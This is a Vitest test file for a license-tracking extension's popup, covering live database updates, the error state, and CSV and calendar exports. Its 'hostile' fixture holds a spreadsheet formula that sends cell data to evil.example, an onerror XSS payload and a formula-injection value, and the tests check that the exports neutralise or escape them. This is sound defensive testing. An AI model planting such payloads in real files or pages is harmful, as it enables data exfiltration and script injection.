// @vitest-environment happy-dom
import { cleanup, fireEvent, render, screen, waitFor } from '@testing-library/preact';
import Dexie from 'dexie';
import Papa from 'papaparse';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { PopupApp } from '../components/popup/PopupApp';
import { BOM, CSV_COLUMNS } from '../lib/csv';
import { LicenseDatabase } from '../lib/db';
import type { DownloadFile } from '../lib/download';
import { at, PAGE_URL, sampleCache, TODAY } from './popup-fixture';

let counter = 0;
const databases: LicenseDatabase[] = [];
function freshDb(): LicenseDatabase {
  counter += 1;
  const db = new LicenseDatabase(`popup-live-${process.pid}-${counter}`);
  databases.push(db);
  return db;
}

afterEach(async () => {
  cleanup();
  for (const db of databases.splice(0)) {
    db.close();
    await Dexie.delete(db.name);
  }
});

function mount(db: LicenseDatabase) {
  const download = vi.fn<(file: DownloadFile) => void>();
  const acts = { openLicensesPage: vi.fn(), openOptions: vi.fn(), download };
  render(<PopupApp db={db} actions={acts} onRetry={vi.fn()} clock={() => at(TODAY, 15, 30)} />);
  return { download };
}

async function sync(db: LicenseDatabase, sets = sampleCache()) {
  await db.transaction('rw', [db.sets, db.meta], async () => {
    await db.sets.bulkPut(sets);
    await db.meta.put({ id: 'sync', lastSyncAt: at(TODAY).toISOString(), lastSyncUrl: PAGE_URL });
  });
}

describe('the popup on the database', () => {
  it('goes from loading to empty, then updates live when a sync lands and when figures change', async () => {
    const db = freshDb();
    mount(db);
    expect(screen.getByText('Loading license data…')).toBeTruthy();
    expect(await screen.findByText(/No license data yet/)).toBeTruthy();

    await sync(db);
    await waitFor(() => expect(screen.getByTestId('total-unassigned').textContent).toBe('298'));
    expect(screen.getAllByTestId('track')).toHaveLength(3);

    const cohortA = sampleCache()[1];
    await db.sets.put({ ...cohortA, assigned: 50 });
    await waitFor(() => expect(screen.getByTestId('total-unassigned').textContent).toBe('286'));
  });

  it('shows the error state when the database cannot be opened', async () => {
    const db = freshDb();
    // Opening fails the way a damaged profile does: Dexie rejects every query with the cause.
    db.on('ready', () => {
      throw Object.assign(new Error('Internal error opening backing store for indexedDB.open.'), {
        name: 'UnknownError',
      });
    });
    mount(db);
    const alert = await screen.findByRole('alert');
    expect(alert.textContent).toContain('The saved license data could not be opened.');
    expect(alert.textContent).toContain('restart the browser');
    expect(alert.textContent).toContain('Internal error opening backing store');
    expect(screen.queryByText('Loading license data…')).toBeNull();
  });
});

describe('exports of the whole cache', () => {
  const hostile = () => {
    const sets = sampleCache();
    sets[0] = { ...sets[0], name: '=HYPERLINK("https://evil.example/?"&A1,"Click")' };
    sets[1] = { ...sets[1], name: '<img src=x onerror=alert(1)>', track: '+SUM(1,2)' };
    sets[2] = { ...sets[2], missingSince: '2026-11-30' };
    return sets;
  };

  it('downloads the CSV: one row per cached set, neutralised formulas, BOM and CRLF', async () => {
    const db = freshDb();
    await sync(db, hostile());
    const { download } = mount(db);
    fireEvent.click(await screen.findByRole('button', { name: 'Export CSV' }));
    await waitFor(() => expect(download).toHaveBeenCalledOnce());
    const file = download.mock.calls[0][0];
    expect(file.filename).toBe('letrs-licenses-2026-12-03.csv');
    expect(file.type).toBe('text/csv;charset=utf-8');
    expect(file.content.startsWith(BOM)).toBe(true);
    expect(file.content.split('\r\n')).toHaveLength(8 + 2);
    const rows = Papa.parse<string[]>(file.content.slice(1).trim(), { newline: '\r\n' }).data;
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(1 + 8);
    const names = rows.slice(1).map((r) => r[2]);
    expect(names).toContain('\'=HYPERLINK("https://evil.example/?"&A1,"Click")');
    expect(names).toContain('<img src=x onerror=alert(1)>');
    expect(rows.slice(1).map((r) => r[1])).toContain("'+SUM(1,2)");
    const gone = rows.find((r) => r[2] === 'LETRS Units 5-8 Cohort A');
    expect(gone?.[15]).toBe('2026-11-30');
    expect(await screen.findByText('Saved letrs-licenses-2026-12-03.csv (8 sets).')).toBeTruthy();
  });

  it('downloads the calendar: an all-day event per end date and per upcoming start, with a reminder', async () => {
    const db = freshDb();
    await sync(db, hostile());
    await db.settings.put({
      id: 'settings',
      warningWindow: 21,
      deadlineHorizon: 90,
      notificationsEnabled: false,
      notificationLeadTimes: [30],
      badgeExcludedOrganizations: [],
      badgeExcludedTracks: [],
    });
    const { download } = mount(db);
    fireEvent.click(await screen.findByRole('button', { name: 'Export calendar' }));
    await waitFor(() => expect(download).toHaveBeenCalledOnce());
    const file = download.mock.calls[0][0];
    expect(file.filename).toBe('letrs-licenses-2026-12-03.ics');
    expect(file.type).toBe('text/calendar;charset=utf-8');
    // 7 sets have an end date; the upcoming one has a start date only.
    expect(file.content.match(/BEGIN:VEVENT/g)).toHaveLength(8);
    expect(file.content.match(/TRIGGER:-P21D/g)).toHaveLength(8);
    expect(file.content).toContain('DTSTART;VALUE=DATE:20261208');
    expect(file.content).toContain('SUMMARY:LETRS licenses end: <img src=x onerror=alert(1)> (+SUM(1\\,2))');
  });
});
